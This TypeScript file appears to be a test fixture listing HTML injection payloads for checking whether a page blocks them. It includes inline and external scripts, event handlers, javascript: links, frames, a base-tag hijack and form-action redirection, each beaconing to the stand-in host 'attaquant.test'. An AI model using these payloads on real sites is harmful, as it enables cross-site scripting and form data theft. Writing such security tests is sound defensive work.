/** What somebody would write into a page, were there a hole in it. */
export const ATTACKER = 'attaquant.test'

type Injection = { readonly name: string; readonly html: (there: string) => string }

const said = (name: string, there: string): string =>
  `(window.acted=window.acted||[]).push('${name}');new Image().src='${there}/js-${name}'`

export const injections: readonly Injection[] = [
  { name: 'script', html: there => `<script>${said('script', there)}</script>` },
  { name: 'script of elsewhere', html: there => `<script src="${there}/script.js"></script>` },
  { name: 'module of elsewhere', html: there => `<script type="module">import '${there}/module.js'</script>` },
  {
    name: 'script in data',
    html: there => `<script src="data:text/javascript,${encodeURIComponent(said('data', there))}"></script>`,
  },
  { name: 'event handler', html: there => `<img src="/x" onerror="${said('onerror', there)}">` },
  { name: 'svg handler', html: there => `<svg onload="${said('onload', there)}"></svg>` },
  // without its void the page would be replaced by what it says, and with it what tells that it acted
  {
    name: 'javascript link',
    html: there => `<a id="injected-link" href="javascript:${said('link', there)};void 0">x</a>`,
  },
  { name: 'style', html: () => '<style>body{outline:7px solid red}</style>' },
  { name: 'style of elsewhere', html: there => `<link rel="stylesheet" href="${there}/style.css">` },
  { name: 'style attribute', html: () => '<p id="styled" style="outline:7px solid red">x</p>' },
  { name: 'image of elsewhere', html: there => `<img src="${there}/image.png">` },
  { name: 'sound of elsewhere', html: there => `<audio src="${there}/sound" preload="auto"></audio>` },
  { name: 'frame', html: there => `<iframe src="${there}/frame"></iframe>` },
  {
    name: 'frame written',
    html: there => `<iframe srcdoc="<script>parent.acted=['srcdoc']</script><img src='${there}/srcdoc'>"></iframe>`,
  },
  { name: 'object', html: there => `<object data="${there}/object.html" type="text/html"></object>` },
  { name: 'embed', html: there => `<embed src="${there}/embed.html" type="text/html">` },
  { name: 'base', html: there => `<base href="${there}/based/">` },
  {
    name: 'form',
    html: there => `<form action="${there}/form" method="post"><button id="injected-form">x</button></form>`,
  },
  {
    name: 'button of another action',
    html: there =>
      `<form action="/"><button id="injected-action" formmethod="post" formaction="${there}/formaction">x</button></form>`,
  },
]
